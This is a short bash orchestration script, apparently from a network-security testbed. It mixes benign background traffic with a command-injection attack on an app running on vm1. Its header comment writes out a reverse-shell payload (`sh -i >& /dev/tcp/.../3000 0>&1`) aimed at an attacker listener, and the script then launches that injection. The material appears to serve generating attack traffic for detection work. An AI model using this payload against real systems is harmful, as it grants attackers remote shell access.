# shellcheck shell=bash
# The story, live: percent-encoded `sh -i >& /dev/tcp/35.217.6.162/3000 0>&1` injection into the app on
# vm1:3000, a real reverse shell to the attacker's listener (held FW_HOLD s), amid benign noise.
drive() {
    local pids=()
    svc vm1 noise-story noise --duration 35 --rounds 5 --pause 4; pids+=("$FW_LAST_PID")
    svc admin admin-story admin --host "${FW_ADDR[vm1]}" --duration $((FW_HOLD + 20)); pids+=("$FW_LAST_PID")
    svc visit visit-story visitor --host "${FW_ADDR[vm1]}" --count 5 --pause 4; pids+=("$FW_LAST_PID")
    svc vm2 health-story visitor --host "${FW_ADDR[vm1]}" --path /health --count 5 --pause 4; pids+=("$FW_LAST_PID")
    sleep 8
    run atk inject-story inject --host "${FW_ADDR[vm1]}" --callback "${FW_ADDR[atk]}" --callback-port 3000 --payload devtcp
    sleep $((FW_HOLD + 4))
    wait_pids "${pids[@]}"
}
